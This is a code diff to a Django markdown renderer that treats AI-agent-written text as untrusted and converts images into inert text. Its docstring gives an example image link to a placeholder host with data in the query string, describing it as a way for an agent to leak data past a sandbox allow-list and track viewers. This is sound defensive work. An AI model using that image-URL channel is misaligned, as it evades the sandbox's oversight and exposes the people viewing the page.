@@ -1,7 +1,12 @@
 """Text to HTML for pages: markdown written by agents (plans, reviews, PR bodies, messages) is
 untrusted. Raw HTML in it is escaped (shown as the text it is, so `Goodbye, <name>` and
 `List<String>` keep every character), the markdown is rendered, and the result is sanitised with
-nh3 before it is marked safe."""
+nh3 before it is marked safe.
+
+No image is rendered: `![](https://host/?d=...)` in a plan or a message would make every viewer's
+browser fetch a URL the agent chose (a way out past the sandbox's allow-list, and a tell of who
+looked when). An image becomes inert text showing its alt text and URL; nh3 drops any `<img>` left
+(and the Content-Security-Policy, tacx_site.csp, would refuse the fetch anyway)."""
 
 from __future__ import annotations
 
@@ -12,10 +17,23 @@ import markdown as md
 import nh3
 import yaml
 from django.utils.safestring import SafeString, mark_safe
+from markdown.treeprocessors import Treeprocessor
 
 _EXTENSIONS = ["fenced_code", "tables", "sane_lists"]
-_TAGS = nh3.ALLOWED_TAGS | {"pre", "code", "table", "thead", "tbody", "tr", "th", "td", "hr", "del", "input"}
-_ATTRIBUTES = {**nh3.ALLOWED_ATTRIBUTES, "code": {"class"}, "input": {"type", "checked", "disabled"}}
+_TAGS = (nh3.ALLOWED_TAGS - {"img"}) | {"pre", "code", "table", "thead", "tbody", "tr", "th", "td", "hr", "del", "input"}
+_ATTRIBUTES = {**nh3.ALLOWED_ATTRIBUTES, "code": {"class"}, "span": {"class"}, "input": {"type", "checked", "disabled"}}
+
+
+class InertImages(Treeprocessor):
+    """Each `<img>` the markdown made becomes `<span class="image-ref">[image: alt] URL</span>`."""
+
+    def run(self, root):
+        for element in root.iter("img"):
+            alt, src = element.get("alt", ""), element.get("src", "")
+            element.tag = "span"
+            element.attrib.clear()
+            element.set("class", "image-ref")
+            element.text = f"[image{': ' + alt if alt else ''}] {src}".rstrip()
 
 
 def markdown_html(text: str) -> SafeString:
@@ -27,6 +45,7 @@ def markdown_html(text: str) -> SafeString:
     # that the sanitiser would then drop with its content.
     renderer.preprocessors.deregister("html_block")
     renderer.inlinePatterns.deregister("html")
+    renderer.treeprocessors.register(InertImages(renderer), "inert_images", 15)  # after "inline" (20)
     html = renderer.convert(text)
     return mark_safe(nh3.clean(html, tags=_TAGS, attributes=_ATTRIBUTES, link_rel="noopener noreferrer"))
 
